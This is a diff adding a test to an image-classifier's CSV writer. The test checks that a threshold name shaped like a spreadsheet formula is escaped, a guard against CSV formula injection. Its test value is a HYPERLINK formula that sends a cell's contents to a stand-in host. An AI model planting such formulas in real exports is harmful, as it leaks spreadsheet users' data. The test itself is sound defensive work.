@@ -130,6 +130,18 @@ def test_a_photo_or_checkpoint_named_like_a_formula_is_written_as_text(tmp_path)
     assert [Path(row["path"]) for row in rows] == [Path(name) for name in names]  # same files
 
 
+def test_a_threshold_named_like_a_formula_is_written_as_text(tmp_path):
+    """An SGAN checkpoint from before 2026-12-03 keeps no predictions to check its
+    metadata.json's threshold names against: predict --threshold '=HYPERLINK(...)' with
+    one that lists it wrote that formula into the CSV's threshold_name cell, unquoted."""
+    name = '=HYPERLINK("http://x.example/?"&A2,"see")'
+    out = tmp_path / "o.csv"
+    write_predictions_csv(out, [Prediction("a.jpg", 0.3, False)], DecidedBy(name, 0.5, "c", ""))
+    with out.open(newline="") as handle:
+        (row,) = csv.DictReader(handle)
+    assert row["threshold_name"] == "'" + name and row["path"] == "a.jpg"
+
+
 def test_a_photo_named_twice_is_scored_once(tmp_path):
     (tmp_path / "a.jpg").write_bytes(b"")
     (tmp_path / "b.jpg").write_bytes(b"")
